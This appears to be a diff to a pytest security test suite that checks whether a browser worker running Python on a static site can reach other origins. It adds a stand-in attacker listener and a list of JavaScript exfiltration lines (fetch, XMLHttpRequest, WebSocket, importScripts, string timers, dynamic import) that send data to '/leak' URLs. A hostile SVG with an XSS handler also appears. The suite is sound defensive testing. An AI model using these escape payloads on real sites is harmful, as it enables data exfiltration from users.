@@ -2,7 +2,10 @@
 and a chart's SVG cannot carry anything that runs or loads.
 """
 
+import contextlib
+import http.server
 import json
+import threading
 
 import pytest
 from runtime_site import (
@@ -54,6 +57,90 @@ def site(built_site, tmp_path_factory):
     return copy_site(built_site, tmp_path_factory.mktemp("sandbox") / "site")
 
 
+@pytest.fixture(scope="module")
+def site_without_csp(built_site, tmp_path_factory):
+    return copy_site(built_site, tmp_path_factory.mktemp("sandbox-no-csp") / "site", csp=False)
+
+
+class _Listener(http.server.BaseHTTPRequestHandler):
+    """Records every request it gets (an attacker's server) and answers with a tiny script."""
+
+    def do_GET(self) -> None:
+        self.server.received.append(self.path)
+        body = b"export default 1;"
+        self.send_response(200)
+        self.send_header("Content-Type", "text/javascript")
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@contextlib.contextmanager
+def listener():
+    """An HTTP server on another port of the same host: another origin, as an attacker's would be."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
+    server.daemon_threads = True
+    server.received = []
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield server
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+# Every way out of the worker to another origin, as an attacker's code would try it once Python is up
+# (`{o}`: the listener's origin, `{h}`: its host and port; the seller's data would ride in the URL).
+ESCAPES = {
+    "fetch": "await fetch('{o}/leak/fetch?d=1')",
+    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', '{o}/leak/xhr?d=1'); x.send()",
+    "WebSocket": "new WebSocket('ws://{h}/leak/ws?d=1')",
+    "EventSource": "new EventSource('{o}/leak/sse?d=1')",
+    "importScripts": "importScripts('{o}/leak/import-scripts.js?d=1')",
+    "nested Worker": "new Worker('{o}/leak/worker.js?d=1')",
+    "string setTimeout": "setTimeout(\"import('{o}/leak/timeout.mjs?d=1')\", 0)",
+    "string setInterval": "self.__i = setInterval(\"import('{o}/leak/interval.mjs?d=1')\", 50)",
+    "dynamic import()": "await import('{o}/leak/import.mjs?d=1')",
+}
+
+
+@pytest.mark.parametrize("policy", ["under the CSP", "without a CSP"])
+def test_an_attacker_in_the_worker_reaches_no_other_origin(chromium, site, site_without_csp, policy):
+    """Under the page's policy (which binds the blob-started worker) nothing gets out; without it, the worker's own
+    lock still stops everything but import(), which is syntax: proof that the listener would hear a leak."""
+    with serve(site if policy == "under the CSP" else site_without_csp) as server, listener() as spy:
+        host, port = spy.server_address[:2]
+        context = new_context(chromium)
+        page = context.new_page()
+        page.goto(server.base + "calculators/rate-check/")
+        wait_live(page)
+        outcomes = {
+            name: try_in_worker(page, code.replace("{o}", f"http://{host}:{port}").replace("{h}", f"{host}:{port}"))
+            for name, code in ESCAPES.items()
+        }
+        page.wait_for_timeout(1500)  # timers fire, connections open
+        leaked = sorted({path.split("?")[0] for path in spy.received})
+        if policy == "under the CSP":
+            assert leaked == [], (leaked, outcomes)
+            assert "got through" not in outcomes["dynamic import()"], outcomes
+        else:
+            assert leaked == ["/leak/import.mjs"], (leaked, outcomes)
+        # the lock refuses every name it holds, CSP or not (string timers included)
+        held = {name: text for name, text in outcomes.items() if name != "dynamic import()"}
+        assert all("got through" not in text for text in held.values()), outcomes
+        assert (
+            "takes a function" in outcomes["string setTimeout"] and "takes a function" in outcomes["string setInterval"]
+        )
+        # and Python still answers
+        check_calculator_live(page, "rate_check", "ja")
+        context.close()
+
+
 @pytest.mark.parametrize("start", ["plain", "snapshot"])
 def test_the_worker_cannot_reach_the_network_once_python_is_up(chromium, site, start):
     with serve(site) as server:
@@ -99,11 +186,6 @@ HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www
   <style>@import url(/leak/style.css);</style>
   <text x="5" y="20" onmouseover="window.__xss='text'">2.5%</text>
 </svg>"""
-
-
-@pytest.fixture(scope="module")
-def site_without_csp(built_site, tmp_path_factory):
-    return copy_site(built_site, tmp_path_factory.mktemp("sandbox-no-csp") / "site", csp=False)
 
 
 @pytest.mark.parametrize("policy", ["without a CSP", "under the CSP"])
